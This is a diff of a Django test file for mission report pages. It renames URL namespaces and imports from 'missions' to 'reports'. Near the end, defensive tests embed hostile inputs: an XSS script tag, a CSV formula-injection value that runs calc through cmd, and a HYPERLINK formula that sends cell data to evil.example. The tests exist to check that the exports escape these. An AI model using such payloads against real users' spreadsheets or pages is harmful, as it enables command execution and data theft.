@@ -17,14 +17,16 @@ from delegations.tests.factories import (
     MeetingRequestFactory,
     MeetingSlotFactory,
 )
-from missions.charts import bar_chart
-from missions.enums import MissionStatus, ReportStatus
-from missions.tests.factories import MissionFactory, MissionReportFactory, SectorFactory
+from missions.enums import MissionStatus
+from missions.tests.factories import MissionFactory, SectorFactory
+from reports.charts import bar_chart
+from reports.enums import ReportStatus
+from reports.tests.factories import MissionReportFactory
 
 pytestmark = pytest.mark.django_db
 
-PAGES = ["missions:report", "missions:report_pdf", "missions:report_meetings_csv",
-         "missions:report_companies_csv"]  # fmt: skip
+PAGES = ["reports:report", "reports:report_pdf", "reports:report_meetings_csv",
+         "reports:report_companies_csv"]  # fmt: skip
 ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}
 
 
@@ -109,7 +111,7 @@ def test_report_pages_are_for_staff_and_officials(client, request, name, role):
 def test_report_of_an_unknown_mission_is_a_404(client, request, role):
     client.force_login(request.getfixturevalue(role))
 
-    response = client.get(reverse("missions:report", kwargs={"slug": "nowhere"}))
+    response = client.get(reverse("reports:report", kwargs={"slug": "nowhere"}))
 
     assert response.status_code == 404
 
@@ -118,7 +120,7 @@ def test_mission_page_links_to_its_report_for_the_city_only(client, staff_user, 
     mission = small_mission()
     mission.status = MissionStatus.OPEN
     mission.save()
-    link = f'href="{url("missions:report", mission)}"'
+    link = f'href="{url("reports:report", mission)}"'
 
     client.force_login(staff_user)
     assert link in client.get(mission.get_absolute_url()).content.decode()
@@ -133,7 +135,7 @@ def test_report_page_shows_kpis_charts_and_a_draft_without_narrative(client, off
     mission = small_mission()
     client.force_login(official_user)
 
-    response = client.get(url("missions:report", mission), **ENGLISH)
+    response = client.get(url("reports:report", mission), **ENGLISH)
 
     html = response.content.decode()
     assert response.context["report"] is None
@@ -154,16 +156,16 @@ def test_report_page_shows_kpis_charts_and_a_draft_without_narrative(client, off
     )
     assert html.count('role="img"') == 4
     assert "<title" in html and "Budget: planned and actual" in html
-    assert url("missions:report_pdf", mission) in html
-    assert url("missions:report_meetings_csv", mission) in html
-    assert url("missions:report_companies_csv", mission) in html
+    assert url("reports:report_pdf", mission) in html
+    assert url("reports:report_meetings_csv", mission) in html
+    assert url("reports:report_companies_csv", mission) in html
 
 
 def test_report_page_without_meetings_nor_budget_shows_dashes(client, staff_user):
     mission = MissionFactory(status=MissionStatus.COMPLETED)
     client.force_login(staff_user)
 
-    response = client.get(url("missions:report", mission), **ENGLISH)
+    response = client.get(url("reports:report", mission), **ENGLISH)
 
     html = response.content.decode()
     assert response.status_code == 200
@@ -179,7 +181,7 @@ def test_report_page_shows_the_narrative_and_status(client, staff_user):
     )
     client.force_login(staff_user)
 
-    response = client.get(url("missions:report", mission), **ENGLISH)
+    response = client.get(url("reports:report", mission), **ENGLISH)
 
     html = response.content.decode()
     assert response.context["report_status"] == "Awaiting review"
@@ -194,7 +196,7 @@ def test_report_page_escapes_names_in_charts(client, staff_user):
     )
     client.force_login(staff_user)
 
-    html = client.get(url("missions:report", mission), **ENGLISH).content.decode()
+    html = client.get(url("reports:report", mission), **ENGLISH).content.decode()
 
     assert "<script>alert(1)" not in html
     assert "&lt;script&gt;alert(1)" in html
@@ -216,7 +218,7 @@ def test_report_page_queries_do_not_grow_with_the_data(
     client.force_login(staff_user)
 
     with django_assert_num_queries(11):
-        response = client.get(url("missions:report", mission))
+        response = client.get(url("reports:report", mission))
 
     assert response.context["kpis"].meetings_held == count
 
@@ -235,7 +237,7 @@ def test_report_pdf_is_a_pdf_with_the_kpis(client, official_user):
     )
     client.force_login(official_user)
 
-    response = client.get(url("missions:report_pdf", mission), **ENGLISH)
+    response = client.get(url("reports:report_pdf", mission), **ENGLISH)
 
     assert response["Content-Type"] == "application/pdf"
     assert response["Content-Disposition"] == 'attachment; filename="report-toronto-2027.pdf"'
@@ -263,7 +265,7 @@ def test_report_pdf_without_pango_answers_503(client, staff_user, monkeypatch):
     monkeypatch.setattr(builtins, "__import__", no_weasyprint)
     client.force_login(staff_user)
 
-    response = client.get(url("missions:report_pdf", mission), **ENGLISH)
+    response = client.get(url("reports:report_pdf", mission), **ENGLISH)
 
     assert response.status_code == 503
     assert "The PDF cannot be made on this server" in response.content.decode()
@@ -273,7 +275,7 @@ def test_report_meetings_csv_is_exact(client, staff_user):
     mission = small_mission()
     client.force_login(staff_user)
 
-    response = client.get(url("missions:report_meetings_csv", mission), **ENGLISH)
+    response = client.get(url("reports:report_meetings_csv", mission), **ENGLISH)
 
     assert response["Content-Disposition"] == (
         'attachment; filename="report-toronto-2027-meetings.csv"'
@@ -296,7 +298,7 @@ def test_report_companies_csv_is_exact(client, official_user):
     ApplicationFactory(mission=mission, status=ApplicationStatus.DRAFT)
     client.force_login(official_user)
 
-    response = client.get(url("missions:report_companies_csv", mission), **ENGLISH)
+    response = client.get(url("reports:report_companies_csv", mission), **ENGLISH)
 
     assert response.content.decode("utf-8") == (
         "\ufeffCompany;SIRET;Sectors;Size;City;Application status;Meetings held;Leads;"
@@ -333,8 +335,8 @@ def test_report_csvs_write_formulas_as_text(client, staff_user):
     mission.counterparts.update(organisation="@SUM(1+1)*cmd|' /C calc'!A0")
     client.force_login(staff_user)
 
-    companies = client.get(url("missions:report_companies_csv", mission), **ENGLISH)
-    meetings = client.get(url("missions:report_meetings_csv", mission), **ENGLISH)
+    companies = client.get(url("reports:report_companies_csv", mission), **ENGLISH)
+    meetings = client.get(url("reports:report_meetings_csv", mission), **ENGLISH)
 
     company_row = companies.content.decode("utf-8-sig").split("\r\n")[1].split(";")
     assert company_row[0] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"'
